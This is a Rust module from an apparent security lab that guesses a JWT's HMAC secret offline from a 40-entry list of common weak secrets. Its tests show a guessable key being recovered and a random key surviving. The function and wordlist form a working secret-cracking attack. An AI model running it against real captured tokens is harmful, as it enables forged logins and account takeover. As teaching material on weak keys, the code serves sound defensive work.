//! Offline guessing of an HMAC JWT secret: the attack a password-like key invites.
//!
//! Every guess is a real HMAC check of the captured token's signature. Real attackers use lists of
//! millions of leaked passwords and GPUs; this short list is enough to find the seed's `mysecretkey`
//! and nothing like a 256-bit random key.

use std::time::{Duration, Instant};

use crate::auth::jwt::{self, Alg, SignatureStatus, TokenError, VerifyOptions};

/// Secrets that tutorials, READMEs and lazy configs actually use, in the order they are tried.
pub const WORDLIST: [&str; 40] = [
    "secret",
    "password",
    "123456",
    "12345678",
    "qwerty",
    "admin",
    "changeme",
    "letmein",
    "test",
    "dev",
    "default",
    "key",
    "jwt",
    "token",
    "secretkey",
    "secret123",
    "secret_key",
    "jwt_secret",
    "jwtsecret",
    "jwt-secret",
    "mysecret",
    "supersecret",
    "topsecret",
    "s3cr3t",
    "shhhhh",
    "keyboard cat",
    "your-256-bit-secret",
    "your_jwt_secret",
    "secretKey",
    "mysecretkey",
    "my_secret_key",
    "SECRET_KEY",
    "hello",
    "welcome",
    "iloveyou",
    "password123",
    "P@ssw0rd",
    "abc123",
    "private",
    "development",
];

/// What a guessing run found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrackResult {
    /// The secret, if a guess produced the token's signature.
    pub found: Option<String>,
    /// Guesses made (stops at the first hit).
    pub attempts: usize,
    /// Size of the list.
    pub list_len: usize,
    /// Wall-clock time the guesses took (the one non-deterministic number in the labs).
    pub elapsed: Duration,
}

impl CrackResult {
    /// `found "mysecretkey" after 30 of 40 guesses` / `no match in 40 guesses`, optionally timed.
    pub fn summary(&self, show_timing: bool) -> String {
        let mut text = match &self.found {
            Some(secret) => {
                format!("found \"{secret}\" after {} of {} guesses", self.attempts, self.list_len)
            }
            None => format!("no match in {} guesses", self.attempts),
        };
        if show_timing {
            text.push_str(&format!(" in {:.2} ms", self.elapsed.as_secs_f64() * 1000.0));
        }
        text
    }
}

/// Tries each word as the HMAC key for `token` under `alg`. Only the signature is checked (an expired
/// token is as good as any for guessing). Fails only if the token cannot be decoded at all.
pub fn crack(token: &str, alg: Alg, words: &[&str]) -> Result<CrackResult, TokenError> {
    jwt::decode(token)?;
    let started = Instant::now();
    let mut attempts = 0;
    let mut found = None;
    for word in words {
        attempts += 1;
        let options =
            VerifyOptions { alg, key: Some(word.as_bytes().to_vec()), now: 0, leeway: 0, audience: None };
        if jwt::verify(token, &options).signature == SignatureStatus::Valid {
            found = Some((*word).to_string());
            break;
        }
    }
    Ok(CrackResult { found, attempts, list_len: words.len(), elapsed: started.elapsed() })
}

#[cfg(test)]
mod tests {
    use serde_json::{Map, json};

    use super::*;

    fn token_signed_with(key: &[u8]) -> String {
        let claims: Map<String, serde_json::Value> =
            json!({"sub": "1", "exp": 1}).as_object().cloned().unwrap_or_default();
        jwt::sign(&claims, key, Alg::HS256).unwrap()
    }

    #[test]
    fn finds_a_listed_secret_and_stops_there() {
        let result = crack(&token_signed_with(b"mysecretkey"), Alg::HS256, &WORDLIST).unwrap();
        assert_eq!(result.found.as_deref(), Some("mysecretkey"));
        assert_eq!(result.attempts, 30);
        assert_eq!(result.summary(false), "found \"mysecretkey\" after 30 of 40 guesses");
    }

    #[test]
    fn a_random_key_survives_the_whole_list() {
        let result = crack(&token_signed_with(&[7u8; 32]), Alg::HS256, &WORDLIST).unwrap();
        assert_eq!((result.found, result.attempts), (None, 40));
        assert!(crack("not a token", Alg::HS256, &WORDLIST).is_err());
    }
}
